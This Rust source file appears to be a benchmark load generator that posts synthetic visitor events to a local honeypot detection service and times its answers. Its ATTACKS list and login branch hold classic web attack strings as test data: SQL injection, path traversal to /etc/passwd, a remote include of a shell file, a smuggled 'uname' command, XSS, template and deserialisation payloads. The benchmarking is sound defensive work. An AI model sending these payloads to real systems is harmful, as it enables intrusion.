//! Load for `cargo xtask bench events`: SNARE-like clients on loopback keep-alive connections,
//! each posting events back to back to a running flowmon and timing every answer.
//!
//! Each client plays a stream of visitors (a peer address and a user agent of their own) that
//! make one to eight requests each: mostly benign pages, a quarter attacks of every kind, some
//! POSTed forms; half of the visitors return the session cookie as SNARE's clients do. So
//! sessions start all the time and, with a short `--session-timeout`, expire meanwhile.

use std::{
    collections::{BTreeMap, HashSet},
    fmt,
    net::SocketAddr,
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result, bail};
use http_body_util::{BodyExt as _, Full};
use hyper::{Request, body::Bytes, client::conn::http1, header};
use hyper_util::rt::TokioIo;
use serde_json::json;

/// What the load measured.
#[derive(Clone, Debug, PartialEq)]
pub struct LoadReport {
    /// Events answered 200.
    pub events: u64,
    /// Requests that failed or were not answered 200.
    pub errors: u64,
    pub elapsed: Duration,
    pub events_per_sec: f64,
    pub p50: Duration,
    pub p99: Duration,
    pub max: Duration,
    /// Answers by detection name.
    pub detections: BTreeMap<String, u64>,
    /// Answers with an emulated result (a payload: type 2 or 3).
    pub emulated: u64,
    /// Distinct sessions the answers named.
    pub sessions: usize,
}

impl fmt::Display for LoadReport {
    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
        let ms = |d: Duration| d.as_secs_f64() * 1e3;
        write!(
            f,
            "{} events in {:.1} s: {:.0} events/s, p50 {:.2} ms, p99 {:.2} ms, max {:.1} ms, \
             {} errors, {} sessions; detections {:?}",
            self.events,
            self.elapsed.as_secs_f64(),
            self.events_per_sec,
            ms(self.p50),
            ms(self.p99),
            ms(self.max),
            self.errors,
            self.sessions,
            self.detections,
        )
    }
}

/// Runs `concurrency` clients against the SNARE service at `addr` for `duration`, on one
/// thread of its own (so the service keeps the other cores).
pub fn run_event_load(
    addr: SocketAddr,
    duration: Duration,
    concurrency: usize,
) -> Result<LoadReport> {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    runtime.block_on(async {
        let started = Instant::now();
        let deadline = started + duration;
        let clients: Vec<_> = (0..concurrency)
            .map(|id| tokio::spawn(client(addr, id as u64, deadline)))
            .collect();
        let mut total = Tally::default();
        for client in clients {
            total.merge(client.await??);
        }
        Ok(total.report(started.elapsed()))
    })
}

#[derive(Default)]
struct Tally {
    latencies: Vec<Duration>,
    errors: u64,
    detections: BTreeMap<String, u64>,
    emulated: u64,
    sessions: HashSet<String>,
}

impl Tally {
    fn merge(&mut self, other: Tally) {
        self.latencies.extend(other.latencies);
        self.errors += other.errors;
        self.emulated += other.emulated;
        for (name, count) in other.detections {
            *self.detections.entry(name).or_default() += count;
        }
        self.sessions.extend(other.sessions);
    }

    fn report(mut self, elapsed: Duration) -> LoadReport {
        self.latencies.sort_unstable();
        let percentile = |p: usize| {
            let last = self.latencies.len().saturating_sub(1);
            self.latencies
                .get((self.latencies.len() * p / 100).min(last))
                .copied()
                .unwrap_or_default()
        };
        let events = self.latencies.len() as u64;
        LoadReport {
            events,
            errors: self.errors,
            elapsed,
            events_per_sec: events as f64 / elapsed.as_secs_f64(),
            p50: percentile(50),
            p99: percentile(99),
            max: self.latencies.last().copied().unwrap_or_default(),
            detections: self.detections,
            emulated: self.emulated,
            sessions: self.sessions.len(),
        }
    }
}

type Sender = http1::SendRequest<Full<Bytes>>;

async fn client(addr: SocketAddr, id: u64, deadline: Instant) -> Result<Tally> {
    let mut tally = Tally::default();
    let mut visitors = Visitors::new(id);
    let mut sender = connect(addr).await?;
    while Instant::now() < deadline {
        let request = Request::post("/event")
            .header(header::HOST, addr.to_string())
            .header(header::CONTENT_TYPE, "application/json")
            .body(Full::new(Bytes::from(visitors.next_event())))?;
        let sent = Instant::now();
        match exchange(&mut sender, request).await {
            Ok(answer) => {
                tally.latencies.push(sent.elapsed());
                let name = field(&answer, "\"name\": \"").unwrap_or("none");
                if answer.contains("\"payload\": ") {
                    tally.emulated += 1;
                }
                *tally.detections.entry(name.to_owned()).or_default() += 1;
                if let Some(sess_uuid) = field(&answer, "\"sess_uuid\": \"") {
                    visitors.answered(sess_uuid);
                    tally.sessions.insert(sess_uuid.to_owned());
                }
            }
            Err(_) => {
                tally.errors += 1;
                sender = connect(addr).await?;
            }
        }
    }
    Ok(tally)
}

async fn connect(addr: SocketAddr) -> Result<Sender> {
    let tcp = tokio::net::TcpStream::connect(addr)
        .await
        .with_context(|| format!("cannot connect to {addr}"))?;
    tcp.set_nodelay(true)?;
    let (sender, connection) = http1::handshake(TokioIo::new(tcp)).await?;
    tokio::spawn(connection);
    Ok(sender)
}

async fn exchange(sender: &mut Sender, request: Request<Full<Bytes>>) -> Result<String> {
    sender.ready().await?;
    let response = sender.send_request(request).await?;
    let status = response.status();
    let body = response.into_body().collect().await?.to_bytes();
    if status != 200 {
        bail!("answered {status}");
    }
    Ok(String::from_utf8(body.to_vec())?)
}

/// The text after `prefix` up to the next quote.
fn field<'a>(answer: &'a str, prefix: &str) -> Option<&'a str> {
    let start = answer.find(prefix)? + prefix.len();
    let len = answer[start..].find('"')?;
    Some(&answer[start..start + len])
}

const SENSOR: &str = "9c10172f-7ce2-4fb4-b1c6-abc70141db56";

const USER_AGENTS: [&str; 5] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36",
    "curl/8.0.1",
    "python-requests/2.31.0",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
];

const PAGES: [&str; 8] = [
    "/",
    "/index.html",
    "/about.html",
    "/contact.html",
    "/wp-content/themes/twentytwenty/style.css",
    "/img/logo.png",
    "/robots.txt",
    "/blog/2024/01/hello-world.html?ref=home",
];

/// The attacks of the load, one of every kind.
pub const ATTACKS: [&str; 10] = [
    "/index.php?id=1%20UNION%20SELECT%201,2,3,4",
    "/login.php?user=admin'--",
    "/page.php?file=../../../../etc/passwd",
    "/page.php?file=http://203.0.113.9/shell.txt",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/ping.php?host=127.0.0.1;%20uname%20-a",
    "/render?name={{7*7}}",
    "/cart?data=O:8:%22stdClass%22:0:%7B%7D",
    "/redirect?to=%0D%0ASet-Cookie:%20x=1",
    "/eval.php?code=phpinfo()",
];

/// Visitors of one client, one after the other.
struct Visitors {
    client: u64,
    rng: u64,
    visitor: u64,
    requests_left: u32,
    user_agent: &'static str,
    returns_cookie: bool,
    cookie: Option<String>,
}

impl Visitors {
    fn new(client: u64) -> Self {
        Self {
            client,
            rng: client.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1,
            visitor: 0,
            requests_left: 0,
            user_agent: USER_AGENTS[0],
            returns_cookie: false,
            cookie: None,
        }
    }

    /// xorshift64: cheap, and the same load every run.
    fn random(&mut self, below: u64) -> u64 {
        self.rng ^= self.rng << 13;
        self.rng ^= self.rng >> 7;
        self.rng ^= self.rng << 17;
        self.rng % below
    }

    fn next_event(&mut self) -> Vec<u8> {
        if self.requests_left == 0 {
            self.visitor += 1;
            self.requests_left = 1 + self.random(8) as u32;
            self.user_agent = USER_AGENTS[self.random(USER_AGENTS.len() as u64) as usize];
            self.returns_cookie = self.random(2) == 0;
            self.cookie = None;
        }
        self.requests_left -= 1;
        // A peer address of the visitor's own (text in the event, not a source address).
        let peer = self.client * 1_000_000 + self.visitor;
        let ip = format!(
            "10.{}.{}.{}",
            (peer >> 16) & 0xff,
            (peer >> 8) & 0xff,
            peer & 0xff
        );
        let kind = self.random(100);
        let mut headers = json!({"Host": "shop.example", "User-Agent": self.user_agent});
        let mut cookies = None;
        if let Some(cookie) = self.cookie.as_ref().filter(|_| self.returns_cookie) {
            headers["Cookie"] = json!(format!("sess_uuid={cookie}"));
            cookies = Some(json!({"sess_uuid": cookie}));
        }
        let mut event = json!({
            "method": "GET",
            "headers": headers,
            "uuid": SENSOR,
            "peer": {"ip": ip, "port": 40_000 + self.random(20_000)},
            "status": 200,
        });
        match kind {
            0..65 => event["path"] = json!(PAGES[self.random(PAGES.len() as u64) as usize]),
            65..90 => event["path"] = json!(ATTACKS[self.random(ATTACKS.len() as u64) as usize]),
            _ => {
                let password = if kind < 95 { "hunter2" } else { "x' OR '1'='1" };
                event["method"] = json!("POST");
                event["path"] = json!("/login.php");
                event["post_data"] = json!({"user": "admin", "pass": password});
            }
        }
        if let Some(cookies) = cookies {
            event["cookies"] = cookies;
        }
        serde_json::to_vec(&event).expect("JSON values serialise")
    }

    /// SNARE's client gets the session as a cookie and sends it back.
    fn answered(&mut self, sess_uuid: &str) {
        self.cookie = Some(sess_uuid.to_owned());
    }
}
